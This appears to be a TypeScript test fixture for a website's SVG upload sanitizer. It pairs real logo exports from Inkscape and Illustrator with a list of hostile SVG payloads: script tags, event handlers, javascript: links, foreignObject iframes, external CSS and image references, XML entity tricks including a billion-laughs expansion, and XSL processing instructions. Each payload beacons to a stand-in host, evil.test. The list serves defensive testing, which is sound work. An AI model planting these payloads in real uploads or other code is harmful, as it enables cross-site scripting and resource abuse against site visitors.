// SVG files as an editor could upload them: attacks, and real logos that must come out looking the
// same. The sanitizer's unit test, the build test's copy of the site and the measurement behind
// docs/decisions/svg-uploads.md all read this one list.
//
// Every attack that works reports itself by loading `${HIT}<name>`: a script that runs fetches it, and
// an external reference (image, sprite, stylesheet, font) loads it. A browser test that opens the
// file on its own and sees no request to HIT knows the attack is gone, not just renamed.

import { faviconSvg } from "../../src/lib/site/brand.ts";

/** Where an attack that works reports to: a host the tests intercept, never the network. */
export const HIT = "https://evil.test/hit/";

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" width="160" height="40" viewBox="0 0 160 40"';
const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
/** A visible shape, so a link can be clicked and the picture is not empty. */
const BOX = '<rect width="160" height="40" fill="#0f5c5a"/>';
const run = (name: string) => `fetch('${HIT}${name}')`;

export interface HostileSvg {
  name: string;
  /** The attack class, as the decision record's table groups them. */
  kind: string;
  svg: string;
  /** Whether the attack needs a click on the picture (a link) to fire. */
  click?: boolean;
}

export const HOSTILE_SVGS: HostileSvg[] = [
  { name: "script", kind: "script", svg: `${SVG_OPEN}>${BOX}<script>${run("script")}</script></svg>` },
  {
    name: "script-cdata",
    kind: "script",
    svg: `${SVG_OPEN}>${BOX}<script type="text/ecmascript"><![CDATA[ ${run("script-cdata")} ]]></script></svg>`,
  },
  {
    name: "script-src",
    kind: "script",
    svg: `${SVG_OPEN} ${XLINK}>${BOX}<script xlink:href="${HIT}script-src.js"/></svg>`,
  },
  {
    name: "script-prefixed",
    kind: "script",
    svg: `<s:svg xmlns:s="http://www.w3.org/2000/svg" width="160" height="40"><s:rect width="160" height="40"/><s:script>${run("script-prefixed")}</s:script></s:svg>`,
  },
  {
    name: "script-xhtml",
    kind: "script",
    svg: `${SVG_OPEN}>${BOX}<h:script xmlns:h="http://www.w3.org/1999/xhtml">${run("script-xhtml")}</h:script></svg>`,
  },
  { name: "onload", kind: "handler", svg: `${SVG_OPEN} onload="${run("onload")}">${BOX}</svg>` },
  {
    name: "onload-case",
    kind: "handler",
    svg: `${SVG_OPEN} OnLoad="${run("onload-case")}">${BOX}<rect ONCLICK="${run("onclick-case")}" width="1" height="1"/></svg>`,
  },
  {
    name: "onbegin",
    kind: "handler",
    svg: `${SVG_OPEN}>${BOX}<animate onbegin="${run("onbegin")}" attributeName="x" dur="1s"/></svg>`,
  },
  {
    name: "onmouseover",
    kind: "handler",
    click: true,
    svg: `${SVG_OPEN}>${BOX.replace("/>", ` onmouseover="${run("onmouseover")}" onclick="${run("onclick")}"/>`)}</svg>`,
  },
  {
    name: "a-javascript",
    kind: "link",
    click: true,
    svg: `${SVG_OPEN}><a href="javascript:${run("a-javascript")}">${BOX}</a></svg>`,
  },
  {
    name: "a-javascript-obfuscated",
    kind: "link",
    click: true,
    svg: `${SVG_OPEN}><a href=" &#x20;JaVa&#x09;ScRiPt:${run("a-javascript-obfuscated")}">${BOX}</a></svg>`,
  },
  {
    name: "a-xlink-javascript",
    kind: "link",
    click: true,
    svg: `${SVG_OPEN} ${XLINK}><a xlink:href="javascript:${run("a-xlink-javascript")}">${BOX}</a></svg>`,
  },
  {
    name: "a-data-html",
    kind: "link",
    click: true,
    svg: `${SVG_OPEN}><a href="data:text/html;base64,${Buffer.from(`<script>${run("a-data-html")}</script>`).toString("base64")}">${BOX}</a></svg>`,
  },
  {
    name: "animate-href",
    kind: "animation",
    click: true,
    svg: `${SVG_OPEN}><a href="#"><animate attributeName="href" values="javascript:${run("animate-href")}" dur="1s" fill="freeze"/>${BOX}</a></svg>`,
  },
  {
    name: "set-href",
    kind: "animation",
    click: true,
    svg: `${SVG_OPEN}><a href="#"><set attributeName="href" to="javascript:${run("set-href")}"/>${BOX}</a></svg>`,
  },
  {
    name: "set-xlink-href",
    kind: "animation",
    click: true,
    svg: `${SVG_OPEN} ${XLINK}><a xlink:href="#"><set attributeName="xlink:href" to="javascript:${run("set-xlink-href")}"/>${BOX}</a></svg>`,
  },
  {
    name: "foreign-object",
    kind: "foreignObject",
    svg: `${SVG_OPEN}>${BOX}<foreignObject width="160" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run("foreign-object")}"/><iframe src="${HIT}foreign-iframe"></iframe></body></foreignObject></svg>`,
  },
  {
    name: "use-external",
    kind: "external",
    svg: `${SVG_OPEN}>${BOX}<use href="${HIT}use-external.svg#a"/></svg>`,
  },
  {
    name: "use-data",
    kind: "external",
    svg: `${SVG_OPEN}>${BOX}<use href="data:image/svg+xml;base64,${Buffer.from(`<svg id="a" xmlns="http://www.w3.org/2000/svg"><image href="${HIT}use-data"/></svg>`).toString("base64")}#a"/></svg>`,
  },
  {
    name: "image-external",
    kind: "external",
    svg: `${SVG_OPEN}>${BOX}<image href="${HIT}image-external.png" width="10" height="10"/></svg>`,
  },
  {
    name: "image-xlink-external",
    kind: "external",
    svg: `${SVG_OPEN} ${XLINK}>${BOX}<image xlink:href="${HIT}image-xlink-external.png" width="10" height="10"/></svg>`,
  },
  {
    name: "image-svg-data",
    kind: "external",
    svg: `${SVG_OPEN}>${BOX}<image width="10" height="10" href="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run("image-svg-data")}"/>`).toString("base64")}"/></svg>`,
  },
  {
    name: "fe-image",
    kind: "external",
    svg: `${SVG_OPEN}><filter id="f"><feImage href="${HIT}fe-image.png"/></filter><rect width="160" height="40" filter="url(#f)"/></svg>`,
  },
  {
    name: "css-import",
    kind: "css",
    svg: `${SVG_OPEN}><style>@import url(${HIT}css-import.css);</style>${BOX}</svg>`,
  },
  {
    name: "css-url",
    kind: "css",
    svg: `${SVG_OPEN}><style>rect { fill: url(${HIT}css-url.svg#p) }</style>${BOX}</svg>`,
  },
  {
    name: "css-font-face",
    kind: "css",
    svg: `${SVG_OPEN}><style>@font-face { font-family: x; src: url("${HIT}css-font-face.woff2") } text { font-family: x }</style>${BOX}<text y="20">A</text></svg>`,
  },
  {
    name: "style-attribute-url",
    kind: "css",
    svg: `${SVG_OPEN}><rect width="160" height="40" style="fill: url('${HIT}style-attribute-url.svg#p')"/></svg>`,
  },
  // A presentation attribute takes url() as CSS does (found by a review of the cleaner, 2026-12-07).
  {
    name: "fill-attribute-url",
    kind: "css",
    svg: `${SVG_OPEN}><rect width="160" height="40" fill="url(${HIT}fill-attribute-url.svg#p)"/></svg>`,
  },
  {
    name: "filter-attribute-url",
    kind: "css",
    svg: `${SVG_OPEN}>${BOX}<rect width="160" height="40" filter="url('${HIT}filter-attribute-url.svg#f')"/></svg>`,
  },
  {
    name: "mask-attribute-url",
    kind: "css",
    svg: `${SVG_OPEN}><rect width="160" height="40" fill="#0f5c5a" mask="url(${HIT}mask-attribute-url.svg#m)" clip-path="url(${HIT}mask-attribute-url.svg#c)"/></svg>`,
  },
  {
    name: "entity-markup",
    kind: "entity",
    svg: `<!DOCTYPE svg [<!ENTITY x "<script>${run("entity-markup")}</script>">]>${SVG_OPEN}>${BOX}&x;</svg>`,
  },
  {
    name: "entity-billion-laughs",
    kind: "entity",
    svg: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>${SVG_OPEN}>${BOX}<text>&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;</text></svg>`,
  },
  {
    name: "entity-external",
    kind: "entity",
    svg: `<!DOCTYPE svg [<!ENTITY ext SYSTEM "${HIT}entity-external.xml">]>${SVG_OPEN}>${BOX}<text>&ext;</text></svg>`,
  },
  {
    name: "pi-xsl",
    kind: "processing instruction",
    svg: `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${HIT}pi-xsl.xsl"?>${SVG_OPEN}>${BOX}</svg>`,
  },
  {
    name: "pi-css",
    kind: "processing instruction",
    svg: `<?xml version="1.0"?><?xml-stylesheet type="text/css" href="${HIT}pi-css.css"?>${SVG_OPEN}>${BOX}</svg>`,
  },
  {
    name: "xml-base",
    kind: "link",
    click: true,
    svg: `${SVG_OPEN}><a xml:base="javascript:${run("xml-base")}//" href="">${BOX}</a></svg>`,
  },
  {
    name: "iframe-xhtml",
    kind: "foreignObject",
    svg: `${SVG_OPEN}>${BOX}<iframe xmlns="http://www.w3.org/1999/xhtml" src="${HIT}iframe-xhtml"/></svg>`,
  },
];

/** A 2x2 PNG, as drawing programs embed a bitmap in an exported logo. */
const PNG_2X2 =
  "iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAFklEQVQImWN4scH7P39M1H8GEAHiAABREAlNRHGJjQAAAABJRU5ErkJggg==";

export interface RealSvg {
  name: string;
  svg: string;
}

/** Logos as drawing programs and this site write them: they must come out drawn the same. */
export const REAL_SVGS: RealSvg[] = [
  { name: "favicon (src/lib/site/brand.ts)", svg: faviconSvg() },
  {
    name: "photo-site logo (scripts/photo-site.ts)",
    svg: `${SVG_OPEN}>${BOX}</svg>`,
  },
  {
    name: "header mark (SiteHeader.astro)",
    svg: '<svg xmlns="http://www.w3.org/2000/svg" width="32" height="32" viewBox="0 0 32 32" color="#0f5c5a"><circle cx="16" cy="16" r="15" fill="currentColor" opacity="0.15"/><path d="M9 20c3-6 11-6 14 0M12 13a4 4 0 0 1 8 0" stroke="currentColor" stroke-width="2.5" fill="none" stroke-linecap="round"/></svg>',
  },
  {
    name: "Inkscape export",
    svg: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg
   width="240"
   height="80"
   viewBox="0 0 240 80"
   version="1.1"
   id="svg5"
   inkscape:version="1.3 (0e150ed6c4, 2023-07-21)"
   sodipodi:docname="logo.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink"
   xmlns="http://www.w3.org/2000/svg"
   xmlns:svg="http://www.w3.org/2000/svg">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:zoom="2" />
  <defs id="defs2">
    <linearGradient id="sea"><stop offset="0" style="stop-color:#0f5c5a;stop-opacity:1"/><stop offset="1" style="stop-color:#7fb8b0;stop-opacity:1"/></linearGradient>
    <linearGradient xlink:href="#sea" id="seaH" x1="0" y1="0" x2="240" y2="0" gradientUnits="userSpaceOnUse"/>
    <clipPath id="round"><circle cx="40" cy="40" r="36"/></clipPath>
    <path id="wave" d="M 8,48 C 24,32 56,32 72,48"/>
  </defs>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <rect style="fill:url(#seaH);stroke:none" width="240" height="80" x="0" y="0" id="bg" clip-path="url(#round)"/>
    <use xlink:href="#wave" style="fill:none;stroke:#ffffff;stroke-width:6;stroke-linecap:round" id="use1"/>
    <use href="#wave" transform="translate(0,12)" style="fill:none;stroke:#ffffff;stroke-width:4" id="use2"/>
    <circle cx="200" cy="40" r="24" style="fill:#0f5c5a"/>
  </g>
</svg>
`,
  },
  {
    name: "Illustrator export with a bitmap and a stylesheet",
    svg: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
\t viewBox="0 0 200 60" style="enable-background:new 0 0 200 60;" xml:space="preserve" width="200" height="60">
<style type="text/css">
\t.st0{fill:#0F5C5A;}
\t.st1{fill:none;stroke:#E8B04B;stroke-width:4;stroke-miterlimit:10;}
\t.st2{fill:url(#grad1);}
</style>
<linearGradient id="grad1" gradientUnits="userSpaceOnUse" x1="0" y1="30" x2="200" y2="30">
\t<stop offset="0" style="stop-color:#FFFFFF"/>
\t<stop offset="1" style="stop-color:#0F5C5A"/>
</linearGradient>
<rect class="st2" width="200" height="60"/>
<polygon class="st0" points="10,50 30,10 50,50 "/>
<polyline class="st1" points="60,50 80,20 100,50 120,20 "/>
<image width="2" height="2" xlink:href="data:image/png;base64,${PNG_2X2}" transform="matrix(10 0 0 10 150 10)"/>
<g><path class="st0" d="M170,50h20V30h-20V50z"/></g>
</svg>
`,
  },
];

/**
 * One logo that carries an attack of each class that fires in a browser (script, handler, script
 * link, animated link, foreignObject, external image and stylesheet, processing instruction) and
 * still draws the photo site's teal band: cleaned, it must draw exactly that band and nothing more.
 * Its title is its name, so two of them stay two files once cleaned (Astro publishes equal SVGs once).
 */
export function hostileLogo(name = "logo"): string {
  return `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${HIT}${name}-xsl.xsl"?>
${SVG_OPEN} xmlns:xlink="http://www.w3.org/1999/xlink" onload="${run(`${name}-onload`)}">
<title>${name}</title>
<style>@import url(${HIT}${name}-import.css);</style>
<script>${run(`${name}-script`)}</script>
<a href="javascript:${run(`${name}-link`)}"><set attributeName="href" to="javascript:${run(`${name}-set`)}"/>${BOX}</a>
<image href="${HIT}${name}-image.png" width="1" height="1"/>
<foreignObject width="1" height="1"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${run(`${name}-foreign`)}"/></body></foreignObject>
</svg>`;
}
